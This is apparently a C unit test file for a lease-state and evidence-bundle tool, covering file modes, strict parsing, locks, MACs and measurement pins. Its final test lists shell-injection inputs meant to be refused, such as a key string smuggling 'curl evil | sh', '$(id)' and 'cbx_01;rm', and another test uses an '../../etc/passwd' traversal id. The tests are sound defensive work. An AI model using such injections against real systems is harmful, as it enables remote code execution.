/* test_host_state.c — lease state (tools/crabbox/state.c: private directories, claims written
 * atomically with mode 0600, strict claim parsing, locks) and evidence bundles
 * (attest/bundle.c: round trip, strict loading, the two bindings). */
#include <criterion/criterion.h>
#include <dirent.h>
#include <errno.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "bundle_env.h" /* bundle.h, and the key from the environment */
#include "pins.h"
#include "prelaunch.h"
#include "internal.h"
#include "state.h"
#include "util.h"

TestSuite(host_state, .timeout = 30);

static void scratch(char *out, size_t n)
{
    const char *b = getenv("CBA_BUILD_DIR");
    snprintf(out, n, "%s/host-state-XXXXXX", b != NULL ? b : "/tmp");
    cr_assert_not_null(mkdtemp(out));
}

static void open_state(state *st, const char *dir)
{
    char s[PATH_MAX + 8], c[PATH_MAX + 8];
    crabbox_err err = { 0 };
    snprintf(s, sizeof s, "%s/state", dir);
    snprintf(c, sizeof c, "%s/conf", dir);
    cr_assert_eq(state_open(st, s, c, NULL, &err), CRABBOX_OK, "%s", err.message);
}

static mode_t mode_of(const char *path)
{
    struct stat st;
    cr_assert_eq(lstat(path, &st), 0, "%s", path);
    return st.st_mode & 07777;
}

static void sample_claim(claim *c, const char *lease, int64_t created)
{
    claim_init(c);
    snprintf(c->lease, sizeof c->lease, "%s", lease);
    snprintf(c->slug, sizeof c->slug, "calm-reef");
    snprintf(c->provider, sizeof c->provider, "test");
    snprintf(c->state, sizeof c->state, CLAIM_READY);
    snprintf(c->cloud_id, sizeof c->cloud_id, "%040d", 7);
    snprintf(c->recovery, sizeof c->recovery, "rollback-cleanup");
    snprintf(c->gateway_host, sizeof c->gateway_host, "h \"quoted\" \\ and ünïcode");
    c->keep = true;
    c->attested = 1;
    c->created_at = created;
    c->last_touched_at = created + 100;
    c->idle_timeout_secs = 1800;
    c->ttl_secs = 5400;
    claim_set_expiry(c);
}

Test(host_state, directories_are_private)
{
    char dir[PATH_MAX], path[PATH_MAX + 32];
    state st;
    scratch(dir, sizeof dir);
    snprintf(path, sizeof path, "%s/state", dir);
    cr_assert_eq(mkdir(path, 0755), 0);
    snprintf(path, sizeof path, "%s/state/crabbox", dir);
    cr_assert_eq(mkdir(path, 0755), 0);
    open_state(&st, dir);
    cr_assert_eq(mode_of(path), 0700, "an existing state dir is tightened");
    snprintf(path, sizeof path, "%s/state", dir);
    cr_assert_eq(mode_of(path), 0755, "XDG_STATE_HOME itself is the user's business");
    cr_assert_eq(mode_of(st.root), 0700);
    cr_assert_eq(mode_of(st.claims), 0700);
    cr_assert_eq(mode_of(st.locks), 0700);
    cr_assert_eq(mode_of(st.evidence), 0700);
    cr_assert_eq(mode_of(st.leases), 0700);
    cr_assert_eq(cbx_remove_tree(dir), 0);
}

Test(host_state, a_symlinked_state_dir_is_refused)
{
    char dir[PATH_MAX], link_path[PATH_MAX + 32], target[PATH_MAX + 32], s[PATH_MAX + 32];
    state st;
    crabbox_err err = { 0 };
    scratch(dir, sizeof dir);
    snprintf(target, sizeof target, "%s/elsewhere", dir);
    snprintf(link_path, sizeof link_path, "%s/state", dir);
    cr_assert_eq(mkdir(target, 0700), 0);
    cr_assert_eq(mkdir(link_path, 0700), 0);
    snprintf(s, sizeof s, "%s/state/crabbox", dir);
    cr_assert_eq(symlink(target, s), 0);
    snprintf(s, sizeof s, "%s/state", dir);
    cr_assert_eq(state_open(&st, s, s, NULL, &err), CRABBOX_E_FAILED);
    cr_assert(strstr(err.message, "crabbox") != NULL, "%s", err.message);
    cr_assert_eq(state_open(&st, "relative", "relative", NULL, &err), CRABBOX_E_USAGE, "no usable base directory");
    cr_assert_eq(cbx_remove_tree(dir), 0);
}

Test(host_state, claims_round_trip_atomically_with_mode_0600)
{
    char dir[PATH_MAX], path[PATH_MAX + 64];
    state st;
    claim c, back;
    crabbox_err err = { 0 };
    DIR *d;
    struct dirent *e;
    int files = 0;
    scratch(dir, sizeof dir);
    open_state(&st, dir);
    sample_claim(&c, "cbx_0123456789ab", 1000);
    cr_assert_eq(c.expires_at, 1000 + 100 + 1800, "min(idle, ttl)");
    cr_assert_eq(claim_write(&st, &c, &err), CRABBOX_OK, "%s", err.message);
    c.state[0] = 'R';
    cr_assert_eq(claim_write(&st, &c, &err), CRABBOX_OK, "rewrite");
    snprintf(path, sizeof path, "%s/cbx_0123456789ab.json", st.claims);
    cr_assert_eq(mode_of(path), 0600);
    cr_assert_eq(claim_read(&st, "cbx_0123456789ab", &back, &err), CRABBOX_OK, "%s", err.message);
    cr_assert_eq(memcmp(&c, &back, sizeof c), 0, "every field survives");
    d = opendir(st.claims);
    while ((e = readdir(d)) != NULL) { files += e->d_name[0] != '.'; }
    closedir(d);
    cr_assert_eq(files, 1, "no temporary file left behind");
    cr_assert_eq(claim_remove(&st, "cbx_0123456789ab", &err), CRABBOX_OK);
    cr_assert_eq(claim_read(&st, "cbx_0123456789ab", &back, &err), CRABBOX_E_NOT_FOUND);
    cr_assert_eq(claim_remove(&st, "cbx_0123456789ab", &err), CRABBOX_OK, "removing nothing is fine");
    cr_assert_eq(cbx_remove_tree(dir), 0);
}

static void put_claim_file(const state *st, const char *lease, const char *text)
{
    char path[PATH_MAX + 64];
    FILE *f;
    snprintf(path, sizeof path, "%s/%s.json", st->claims, lease);
    f = fopen(path, "w");
    cr_assert_not_null(f);
    fputs(text, f);
    fclose(f);
}

Test(host_state, malformed_claims_are_refused_and_skipped_in_lists)
{
    char dir[PATH_MAX];
    state st;
    claim c, *list;
    size_t n;
    crabbox_err err = { 0 };
    scratch(dir, sizeof dir);
    open_state(&st, dir);
    sample_claim(&c, "cbx_00000000000b", 2000);
    cr_assert_eq(claim_write(&st, &c, &err), CRABBOX_OK);
    sample_claim(&c, "cbx_00000000000a", 1000);
    cr_assert_eq(claim_write(&st, &c, &err), CRABBOX_OK);
    put_claim_file(&st, "cbx_00000000000c", "{\"lease\": \"cbx_00000000000c\", \"keep\": \"yes\"}");
    put_claim_file(&st, "cbx_00000000000d", "{\"lease\": \"cbx_00000000000e\"}");
    put_claim_file(&st, "cbx_00000000000f", "{\"lease\": \"cbx_00000000000f\",}");
    put_claim_file(&st, "cbx_000000000010", "[]");
    put_claim_file(&st, "cbx_000000000011", "{\"lease\": \"cbx_000000000011\", \"created_at\": 1.5}");
    cr_assert_eq(claim_read(&st, "cbx_00000000000c", &c, &err), CRABBOX_E_MALFORMED);
    cr_assert(strstr(err.message, "cbx_00000000000c.json") != NULL, "%s", err.message);
    cr_assert_eq(claim_read(&st, "cbx_00000000000d", &c, &err), CRABBOX_E_MALFORMED, "names another lease");
    cr_assert_eq(claim_read(&st, "cbx_00000000000f", &c, &err), CRABBOX_E_MALFORMED, "strict JSON");
    cr_assert_eq(claim_read(&st, "cbx_000000000010", &c, &err), CRABBOX_E_MALFORMED);
    cr_assert_eq(claim_read(&st, "cbx_000000000011", &c, &err), CRABBOX_E_MALFORMED);
    cr_assert_eq(claim_read(&st, "../../etc/passwd", &c, &err), CRABBOX_E_NOT_FOUND, "ids are validated");
    cr_assert_eq(claim_list(&st, &list, &n, &err), CRABBOX_OK);
    cr_assert_eq(n, 2);
    cr_assert_str_eq(list[0].lease, "cbx_00000000000a", "oldest first");
    cr_assert_str_eq(list[1].lease, "cbx_00000000000b");
    free(list);
    cr_assert_eq(cbx_remove_tree(dir), 0);
}

Test(host_state, lease_ids)
{
    cr_assert(lease_id_valid("cbx_0123456789ab"));
    cr_assert_not(lease_id_valid("cbx_0123456789AB"), "lowercase only");
    cr_assert_not(lease_id_valid("cbx_0123456789a"));
    cr_assert_not(lease_id_valid("cbx_0123456789abc"));
    cr_assert_not(lease_id_valid("cbx-0123456789ab"));
    cr_assert_not(lease_id_valid("cbx_../../../etc"));
    cr_assert_not(lease_id_valid(NULL));
}

Test(host_state, locks)
{
    char dir[PATH_MAX], path[PATH_MAX + 64];
    state st;
    crabbox_err err = { 0 };
    int a = -1, b = -1;
    scratch(dir, sizeof dir);
    open_state(&st, dir);
    cr_assert_eq(lease_lock(&st, "cbx_0123456789ab", true, true, &a, &err), CRABBOX_OK, "%s", err.message);
    /* flock locks belong to open file descriptions: a second open conflicts even in-process. */
    cr_assert_eq(lease_lock(&st, "cbx_0123456789ab", true, true, &b, &err), CRABBOX_E_FAILED);
    cr_assert(strstr(err.message, "busy") != NULL, "%s", err.message);
    cr_assert_eq(lease_lock(&st, "cbx_0123456789ab", false, true, &b, &err), CRABBOX_E_FAILED, "shared vs exclusive");
    snprintf(path, sizeof path, "%s/cbx_0123456789ab.lock", st.locks);
    cr_assert_eq(mode_of(path), 0600);
    lease_unlock(&st, "cbx_0123456789ab", a, true);
    cr_assert_neq(access(path, F_OK), 0, "removed with the claim");
    cr_assert_eq(lease_lock(&st, "cbx_0123456789ab", false, true, &a, &err), CRABBOX_OK);
    cr_assert_eq(lease_lock(&st, "cbx_0123456789ab", false, true, &b, &err), CRABBOX_OK, "shared + shared");
    lease_unlock(&st, "cbx_0123456789ab", a, false);
    lease_unlock(&st, "cbx_0123456789ab", b, false);
    cr_assert_eq(lease_lock(&st, "bad", true, true, &a, &err), CRABBOX_E_USAGE);
    cr_assert_eq(state_lock(&st, true, &err), CRABBOX_OK);
    cr_assert_geq(st.lock_fd, 0);
    state_unlock(&st);
    cr_assert_eq(st.lock_fd, -1);
    state_unlock(&st);
    cr_assert_eq(cbx_remove_tree(dir), 0);
}

Test(host_state, atomic_write_mode_and_durations)
{
    char dir[PATH_MAX], path[PATH_MAX + 16];
    cbx_buf b;
    int64_t s;
    scratch(dir, sizeof dir);
    snprintf(path, sizeof path, "%s/f", dir);
    cr_assert_eq(cbx_write_file_atomic(path, "abc", 3, 0640), 0);
    cr_assert_eq(mode_of(path), 0640);
    cr_assert_eq(cbx_read_file(path, 3, true, &b), 0);
    cr_assert_eq(b.len, 3);
    cbx_buf_free(&b);
    cr_assert_eq(cbx_read_file(path, 2, true, &b), EFBIG, "capped");
    cr_assert_eq(cbx_read_file(dir, 100, true, &b), EINVAL, "not a regular file");
    cr_assert(cbx_parse_duration("90m", &s) && s == 5400);
    cr_assert(cbx_parse_duration("30", &s) && s == 30);
    cr_assert(cbx_parse_duration("1d", &s) && s == 86400);
    cr_assert_not(cbx_parse_duration("0s", &s));
    cr_assert_not(cbx_parse_duration("31d", &s));
    cr_assert_not(cbx_parse_duration("5 m", &s));
    cr_assert_not(cbx_parse_duration("-5m", &s));
    cr_assert_not(cbx_parse_duration("5mm", &s));
    cr_assert_eq(cbx_remove_tree(dir), 0);
}

/* ---- bundles ---------------------------------------------------------------------------------- */

Test(host_state, report_data_known_answer)
{
    uint8_t nonce[32], rd[64], want[64];
    static const char hk[] = "ssh-ed25519-test-key";
    for (int i = 0; i < 32; i++) { nonce[i] = (uint8_t)i; }
    cr_assert(cba_hex_decode(want, 64,
                             "234fab9dd2defc290e6f515cac8eae2ecc187d1bf8e0f9ad3cbb43517d20e516c190085a5711686ebd3223ab"
                             "1433582ad5a172116b145df9c5af97cb82307f44", 128));
    cr_assert(bundle_report_data(rd, nonce, (const uint8_t *)hk, strlen(hk)));
    cr_assert_arr_eq(rd, want, 64);
}

/* info_with builds a dstack Info response whose tcb_info (a JSON string) carries app_compose. */
static char *info_with(const char *app_compose)
{
    json_object *tcb = json_object_new_object(), *info = json_object_new_object();
    char *out;
    json_object_object_add(tcb, "app_compose", json_object_new_string(app_compose));
    json_object_object_add(info, "tcb_info", json_object_new_string(json_object_to_json_string(tcb)));
    out = strdup(json_object_to_json_string(info));
    json_object_put(tcb);
    json_object_put(info);
    return out;
}

Test(host_state, expected_compose_hash_follows_the_wrapped_compose)
{
    static const char compose[] = "services: {}\n";
    static const char app_compose[] = "{\"docker_compose_file\":\"services: {}\\n\",\"name\":\"x\"}";
    char *info = info_with(app_compose);
    uint8_t got[32], want[32];
    cr_assert_not_null(info);
    cr_assert(cba_compose_hash(want, (const uint8_t *)app_compose, strlen(app_compose)));
    cr_assert(bundle_expected_compose_hash(got, (const uint8_t *)info, strlen(info), (const uint8_t *)compose,
                                           strlen(compose)));
    cr_assert_arr_eq(got, want, 32, "the app-compose that wraps our exact compose");
    /* Another compose: the expectation falls back to our own bytes, which cannot match. */
    cr_assert(bundle_expected_compose_hash(got, (const uint8_t *)info, strlen(info), (const uint8_t *)"x: 1\n", 5));
    cr_assert(cba_compose_hash(want, (const uint8_t *)"x: 1\n", 5));
    cr_assert_arr_eq(got, want, 32);
    /* No Info at all (a quote only): our bytes. */
    cr_assert(bundle_expected_compose_hash(got, NULL, 0, (const uint8_t *)compose, strlen(compose)));
    cr_assert(cba_hex_decode(want, 32, "fa6ccea1ca4e3a031d9e99f25cc05db803aa9bac642c000ddab14f6d9da54b52", 64));
    cr_assert_arr_eq(got, want, 32);
    /* A near miss (one byte more) is not a wrap. */
    cr_assert(bundle_expected_compose_hash(got, (const uint8_t *)info, strlen(info), (const uint8_t *)"services: {}\n\n", 14));
    cr_assert(cba_compose_hash(want, (const uint8_t *)"services: {}\n\n", 14));
    cr_assert_arr_eq(got, want, 32);
    free(info);
}

static void fill_bundle(bundle *b)
{
    static const uint8_t info[] = "{\"x\":1}", quote[] = { 4, 0, 2, 0, 0x81, 0, 0, 0 }, key[] = { 0, 0, 0, 1, 'k' };
    bundle_init(b);
    snprintf(b->lease, sizeof b->lease, "cbx_0123456789ab");
    snprintf(b->provider, sizeof b->provider, "test");
    snprintf(b->cloud_id, sizeof b->cloud_id, "abc");
    b->time = 1767225600;
    b->info = malloc(sizeof info - 1);
    memcpy(b->info, info, sizeof info - 1);
    b->info_len = sizeof info - 1;
    b->quote = malloc(sizeof quote);
    memcpy(b->quote, quote, sizeof quote);
    b->quote_len = sizeof quote;
    b->host_key = malloc(sizeof key);
    memcpy(b->host_key, key, sizeof key);
    b->host_key_len = sizeof key;
    b->compose = malloc(2);
    memcpy(b->compose, "a\n", 2);
    b->compose_len = 2;
    b->has_nonce = true;
    memset(b->nonce, 0x11, 32);
    b->fresh = true;
    b->has_app_id = true;
    memset(b->app_id, 0x22, 20);
    b->dcap_skipped = true;
    b->test_root = true;
    snprintf(b->verdict, sizeof b->verdict, "rejected");
    snprintf(b->failed_check, sizeof b->failed_check, "report_data");
    snprintf(b->error, sizeof b->error, "CBA_E_REPORT_DATA_MISMATCH");
    snprintf(b->detail, sizeof b->detail, "detail");
}

static void save_text(const char *path, const char *text)
{
    FILE *f = fopen(path, "w");
    cr_assert_not_null(f);
    fputs(text, f);
    cr_assert_eq(fclose(f), 0);
}

Test(host_state, bundle_round_trip)
{
    char dir[PATH_MAX], path[PATH_MAX + 16], msg[300];
    bundle b, back;
    json_object *o;
    scratch(dir, sizeof dir);
    snprintf(path, sizeof path, "%s/b.json", dir);
    fill_bundle(&b);
    o = bundle_to_json(&b);
    save_text(path, json_object_to_json_string(o));
    json_object_put(o);
    cr_assert_eq(bundle_load(path, &back, msg, sizeof msg), 0, "%s", msg);
    cr_assert_str_eq(back.lease, b.lease);
    cr_assert_eq(back.time, b.time);
    cr_assert_eq(back.info_len, b.info_len);
    cr_assert_arr_eq(back.info, b.info, b.info_len);
    cr_assert_arr_eq(back.quote, b.quote, b.quote_len);
    cr_assert_arr_eq(back.host_key, b.host_key, b.host_key_len);
    cr_assert_arr_eq(back.compose, b.compose, b.compose_len);
    cr_assert_arr_eq(back.nonce, b.nonce, 32);
    cr_assert_arr_eq(back.app_id, b.app_id, 20);
    cr_assert(back.fresh && back.dcap_skipped && back.test_root && back.has_app_id);
    cr_assert_null(back.collateral);
    cr_assert_str_eq(back.failed_check, "report_data");
    cr_assert_str_eq(back.verdict, "rejected");
    bundle_free(&back);
    bundle_free(&b);
    bundle_free(&b);
    bundle_free(NULL);
    cr_assert_eq(cbx_remove_tree(dir), 0);
}

static void expect_bad_bundle(const char *dir, const char *text, const char *needle)
{
    char path[PATH_MAX + 16], msg[300];
    bundle b;
    snprintf(path, sizeof path, "%s/bad.json", dir);
    save_text(path, text);
    cr_assert_eq(bundle_load(path, &b, msg, sizeof msg), -1, "accepted: %s", text);
    cr_assert(strstr(msg, path) != NULL, "the message names the file: %s", msg);
    cr_assert(strstr(msg, needle) != NULL, "message \"%s\" lacks \"%s\"", msg, needle);
}

Test(host_state, malformed_bundles_are_refused)
{
    char dir[PATH_MAX], msg[300];
    bundle b;
    scratch(dir, sizeof dir);
#define HEAD "{\"format\": \"crabbox-evidence-bundle-v1\", \"lease\": \"cbx_0123456789ab\", \"time\": 1, " \
             "\"verdict\": \"verified\", \"dcap\": \"skipped\", \"test_root\": false, "
    expect_bad_bundle(dir, "not json", "not a JSON object");
    expect_bad_bundle(dir, "[1]", "not a JSON object");
    expect_bad_bundle(dir, "{\"format\": \"v0\"}", "unknown format");
    expect_bad_bundle(dir, HEAD "\"fresh\": false, \"info\": \"abc\"}", "\"info\" is not valid base64");
    expect_bad_bundle(dir, HEAD "\"fresh\": false, \"info\": \"QR==\"}", "\"info\" is not valid base64");
    expect_bad_bundle(dir, HEAD "\"fresh\": false, \"info\": 5}", "\"info\" has the wrong type");
    expect_bad_bundle(dir, HEAD "\"fresh\": true, \"info\": \"QQ==\"}", "needs \"nonce\" and \"host_key\"");
    expect_bad_bundle(dir, HEAD "\"fresh\": false, \"nonce\": \"00\"}", "\"nonce\" must be 64 hex digits");
    expect_bad_bundle(dir, HEAD "\"fresh\": false, \"expected_app_id\": \"zz\"}", "expected_app_id");
    expect_bad_bundle(dir, "{\"format\": \"crabbox-evidence-bundle-v1\", \"lease\": \"x\", \"time\": 1}",
                      "missing \"verdict\"");
    expect_bad_bundle(dir, HEAD "\"fresh\": false, \"dcap\": \"maybe\"}", "");
    cr_assert_eq(bundle_load("/nonexistent/b.json", &b, msg, sizeof msg), -1);
    cr_assert(strstr(msg, "/nonexistent/b.json") != NULL);
    cr_assert_eq(cbx_remove_tree(dir), 0);
#undef HEAD
}

Test(host_state, bundle_mac_covers_every_field_and_the_key)
{
    bundle b;
    uint8_t key[32], mac[32], m2[32];
    memset(key, 0x42, sizeof key);
    fill_bundle(&b);
    cr_assert(bundle_mac(&b, key, mac));
    cr_assert(bundle_mac(&b, key, m2));
    cr_assert_eq(memcmp(mac, m2, 32), 0, "deterministic");
    key[0] ^= 1;
    cr_assert(bundle_mac(&b, key, m2));
    cr_assert_neq(memcmp(mac, m2, 32), 0, "another key");
    key[0] ^= 1;
#define MAC_CHANGES(stmt, undo)                                                                  \
    do {                                                                                         \
        stmt;                                                                                    \
        cr_assert(bundle_mac(&b, key, m2));                                                      \
        cr_assert_neq(memcmp(mac, m2, 32), 0, "%s", #stmt);                                      \
        undo;                                                                                    \
    } while (0)
    MAC_CHANGES(b.time++, b.time--);
    MAC_CHANGES(b.nonce[0] ^= 1, b.nonce[0] ^= 1);
    MAC_CHANGES(b.fresh = false, b.fresh = true);
    MAC_CHANGES(b.app_id[19] ^= 1, b.app_id[19] ^= 1);
    MAC_CHANGES(b.dcap_skipped = false, b.dcap_skipped = true);
    MAC_CHANGES(b.compose[0] ^= 1, b.compose[0] ^= 1);
    MAC_CHANGES(b.host_key[0] ^= 1, b.host_key[0] ^= 1);
    MAC_CHANGES(b.compose_len--, b.compose_len++); /* lengths are framed */
    MAC_CHANGES(b.verdict[0] = 'v', b.verdict[0] = 'r');
#undef MAC_CHANGES
    cr_assert(bundle_mac(&b, key, m2));
    cr_assert_eq(memcmp(mac, m2, 32), 0, "all undone");
    /* The fresh quote's own event log (issue 11 §3): covered when recorded, so adding or
     * changing it breaks the MAC, while a bundle without one keeps its old MAC. */
    b.quote_event_log = (uint8_t *)strdup("[{\"imr\":3}]");
    b.quote_event_log_len = strlen((char *)b.quote_event_log);
    cr_assert(bundle_mac(&b, key, m2));
    cr_assert_neq(memcmp(mac, m2, 32), 0, "a quote log added");
    {
        uint8_t m3[32];
        b.quote_event_log[2] ^= 1;
        cr_assert(bundle_mac(&b, key, m3));
        cr_assert_neq(memcmp(m2, m3, 32), 0, "the quote log changed");
    }
    bundle_free(&b);
}

Test(host_state, bundle_round_trip_keeps_the_quote_event_log)
{
    char dir[PATH_MAX], path[PATH_MAX + 16], msg[300];
    bundle b, back;
    json_object *o;
    scratch(dir, sizeof dir);
    snprintf(path, sizeof path, "%s/b.json", dir);
    fill_bundle(&b);
    o = bundle_to_json(&b);
    cr_assert_not(json_object_object_get_ex(o, "quote_event_log", NULL), "absent: not written");
    json_object_put(o);
    b.quote_event_log = (uint8_t *)strdup("[{\"imr\":3,\"event\":\"app-started\"}]");
    b.quote_event_log_len = strlen((char *)b.quote_event_log);
    o = bundle_to_json(&b);
    save_text(path, json_object_to_json_string(o));
    json_object_put(o);
    cr_assert_eq(bundle_load(path, &back, msg, sizeof msg), 0, "%s", msg);
    cr_assert_eq(back.quote_event_log_len, b.quote_event_log_len);
    cr_assert_arr_eq(back.quote_event_log, b.quote_event_log, b.quote_event_log_len);
    bundle_free(&back);
    bundle_free(&b);
    cr_assert_eq(cbx_remove_tree(dir), 0);
}

Test(host_state, bundle_key_is_made_private_and_checked)
{
    char dir[] = "/tmp/crabbox-bkey-XXXXXX", path[PATH_MAX];
    uint8_t k1[32], k2[32];
    bundle b;
    cr_assert(mkdtemp(dir) != NULL);
    cr_assert_eq(setenv("XDG_STATE_HOME", dir, 1), 0);
    snprintf(path, sizeof path, "%s/crabbox", dir);
    cr_assert_eq(mkdir(path, 0700), 0);
    cr_assert_eq(bundle_key_load(k1, false), ENOENT);
    fill_bundle(&b);
    cr_assert_eq(bundle_check_auth(&b), BUNDLE_NO_HOST_KEY);
    cr_assert_eq(bundle_key_load(k1, true), 0);
    cr_assert_eq(bundle_key_load(k2, false), 0);
    cr_assert_eq(memcmp(k1, k2, 32), 0);
    cr_assert_eq(bundle_check_auth(&b), BUNDLE_EDITED, "no MAC while a key exists");
    cr_assert(bundle_mac(&b, k1, b.mac));
    b.has_mac = true;
    cr_assert_eq(bundle_check_auth(&b), BUNDLE_AUTHENTIC);
    b.mac[31] ^= 1;
    cr_assert_eq(bundle_check_auth(&b), BUNDLE_EDITED);
    snprintf(path, sizeof path, "%s/crabbox/bundle.key", dir);
    cr_assert_eq(chmod(path, 0644), 0);
    cr_assert_eq(bundle_key_load(k2, false), EPERM, "a readable key authenticates nothing");
    cr_assert_eq(bundle_check_auth(&b), BUNDLE_NO_HOST_KEY);
    cr_assert_str_eq(bundle_auth_name(BUNDLE_NO_HOST_KEY), "not authenticated (no host key)");
    unlink(path);
    snprintf(path, sizeof path, "%s/crabbox", dir);
    rmdir(path);
    rmdir(dir);
    bundle_free(&b);
}

Test(host_state, measurement_pins_first_match_mismatch_forget)
{
    char dir[] = "/tmp/crabbox-pins-XXXXXX", path[PATH_MAX], why[256], key[PINS_MAX_KEY];
    pin_entry e, old, *v = NULL;
    pin_outcome out;
    size_t num = 0;
    cr_assert(mkdtemp(dir) != NULL);
    snprintf(path, sizeof path, "%s/pins", dir);
    cr_assert(pins_key(key, sizeof key, "phala", "tdx.small", NULL));
    cr_assert_str_eq(key, "phala/tdx.small/-");
    cr_assert(!pins_key(key, sizeof key, "phala", "tdx small", NULL), "space");
    cr_assert(!pins_key(key, sizeof key, "phala", "a/b", NULL), "slash");
    cr_assert(!pins_key(key, sizeof key, "phala", "x\n", NULL), "newline");
    memset(&e, 0, sizeof e);
    snprintf(e.key, sizeof e.key, "%s", key);
    memset(e.mrtd, 1, 48);
    memset(e.rtmr, 2, sizeof e.rtmr);
    e.first_seen = 1767225600;
    snprintf(e.lease, sizeof e.lease, "cbx_0123456789ab");
    cr_assert_eq(pins_check(path, &e, &out, &old, why, sizeof why), 0, "%s", why);
    cr_assert_eq(out, PIN_FIRST_SIGHTING);
    cr_assert_eq(pins_check(path, &e, &out, &old, why, sizeof why), 0, "%s", why);
    cr_assert_eq(out, PIN_MATCH);
    e.rtmr[2][47] ^= 1;
    cr_assert_eq(pins_check(path, &e, &out, &old, why, sizeof why), 0, "%s", why);
    cr_assert_eq(out, PIN_MISMATCH, "RTMR2 changed");
    cr_assert_eq(old.rtmr[2][47], 2);
    cr_assert_str_eq(old.lease, "cbx_0123456789ab");
    cr_assert_eq(pins_load(path, &v, &num, why, sizeof why), 0);
    cr_assert_eq(num, 1, "a mismatch does not re-pin");
    free(v);
    cr_assert_eq(pins_forget(path, "phala/other/-", why, sizeof why), ENOENT);
    cr_assert_eq(pins_forget(path, key, why, sizeof why), 0, "%s", why);
    cr_assert_eq(pins_check(path, &e, &out, &old, why, sizeof why), 0, "%s", why);
    cr_assert_eq(out, PIN_FIRST_SIGHTING, "pinned again after --forget");
    save_text(path, "phala/x/- 00 11 22 33 1 cbx\n");
    cr_assert_eq(pins_check(path, &e, &out, &old, why, sizeof why), EINVAL, "short digests");
    cr_assert(strstr(why, "pins:1: not a pin entry") != NULL, "%s", why);
    unlink(path);
    rmdir(dir);
}

Test(host_state, pre_launch_script_pastes_only_a_plain_key)
{
    static const char key[] = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKmCJuUQkvZ9adkMecgMhJWgxTg+MRWjQav3LugsarrQ crabbox cbx_0123456789ab\n";
    size_t len = 0;
    char *s = prelaunch_script("cbx_0123456789ab", key, strlen(key), &len);
    cr_assert_not_null(s);
    cr_assert_eq(strlen(s), len);
    cr_assert(strstr(s, "key='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKmCJuUQkvZ9adkMecgMhJWgxTg+MRWjQav3LugsarrQ crabbox "
                        "cbx_0123456789ab'\n") != NULL);
    cr_assert(strstr(s, "/home/root/.ssh/authorized_keys") != NULL);
    cr_assert_null(strstr(s, "$DSTACK"), "reads no env var for keys");
    cr_assert_null(strstr(s, ">>"), "never appends");
    free(s);
    /* Anything that could break out of the quotes, or a second line, is refused. */
    static const char *const bad[] = {
        "ssh-ed25519 AAAA' ; curl evil | sh ; echo '",
        "ssh-ed25519 AAAAAAAAAAAAAAAA\nssh-ed25519 BBBBBBBBBBBBBBBB",
        "ssh-ed25519 AAAAAAAAAAAAAAAA $(id)",
        "ssh-ed25519 AAAAAAAAAAAAAAAA `id`",
        "ssh-ed25519 AAAAAAAAAAAAAAAA \\x",
        "command=\"sh\" ssh-ed25519 AAAAAAAAAAAAAAAA",
        "ssh-ed25519",
    };
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        cr_assert_null(prelaunch_script("cbx_0123456789ab", bad[i], strlen(bad[i]), &len), "%s", bad[i]);
    }
    cr_assert_null(prelaunch_script("cbx_01;rm", key, strlen(key), &len), "lease id");
    cr_assert_null(prelaunch_script("", key, strlen(key), &len), "empty lease id");
}
